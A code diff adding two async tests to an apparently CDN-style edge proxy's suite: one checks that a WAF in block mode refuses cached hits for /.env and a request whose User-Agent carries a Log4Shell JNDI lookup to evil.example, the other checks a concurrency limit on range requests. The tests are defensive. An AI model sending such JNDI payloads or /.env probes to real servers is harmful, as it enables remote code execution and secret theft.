@@ -4,6 +4,7 @@ webhook receiver, over real sockets."""
 from __future__ import annotations
 
 import asyncio
+import json
 import re
 import time
 
@@ -139,3 +140,50 @@ async def test_waf_log_mode_and_exclusions(origin, make_edge, client):
         assert r.status == 403  # not elsewhere
     async with client.get(edge.url + "/search", params=q, headers={"Host": "log.example"}) as r:
         assert r.status == 200  # log mode: decided, logged, passed
+
+
+async def test_cached_sensitive_paths_and_user_agent_attacks_are_refused_on_hits(origin, make_edge, client, tmp_path):
+    """The cheap pass on hits sees plain-looking paths (/.env) and the
+    User-Agent (Log4Shell): switching the WAF to block stops a cached copy."""
+    origin.respond("/.env", b"SECRET=1", headers={"Cache-Control": "max-age=600"})
+    origin.respond("/page", b"page", headers={"Cache-Control": "max-age=600"})
+    site = _site(origin.url, {"waf": {"mode": "log"}})
+    edge = await make_edge(policies={"shop": site})
+    host = {"Host": "shop.example"}
+    for path in ("/.env", "/page"):
+        async with client.get(edge.url + path, headers=host) as r:
+            assert r.status == 200
+    (tmp_path / "policies" / "shop.json").write_text(json.dumps(_site(origin.url, {"waf": {"mode": "block"}})))
+    edge.node.reload()
+    async with client.get(edge.url + "/.env", headers=host) as r:
+        assert r.status == 403
+    async with client.get(edge.url + "/page", headers={**host, "User-Agent": "${jndi:ldap://evil.example/a}"}) as r:
+        assert r.status == 403
+    async with client.get(edge.url + "/page", headers=host) as r:
+        assert r.status == 200 and r.headers["Cache-Status"].startswith("edge; hit")
+    assert origin.hits["/.env"] == 1
+
+
+async def test_a_range_fill_needs_a_free_concurrency_slot(origin, make_edge):
+    gate = asyncio.Event()
+
+    async def slow(request):
+        await gate.wait()
+        return web.Response(text="slow")
+
+    origin.route("/slow", slow)
+    origin.respond("/big", b"x" * 100_000, headers={"Cache-Control": "max-age=600"})
+    edge = await make_edge(policies={"shop": _site(origin.url, {"request_limits": {"max_concurrent": 1}})})
+    host = {"Host": "shop.example"}
+    async with aiohttp.ClientSession() as s:
+        holder = asyncio.ensure_future(s.get(edge.url + "/slow", headers=host))
+        for _ in range(100):
+            if origin.hits["/slow"]:
+                break
+            await asyncio.sleep(0.01)
+        async with s.get(edge.url + "/big", headers={**host, "Range": "bytes=0-9"}) as r:
+            assert r.status == 429
+        await asyncio.sleep(0.2)
+        assert origin.hits["/big"] == 0  # neither the range nor a whole-object fill went out
+        gate.set()
+        (await holder).release()
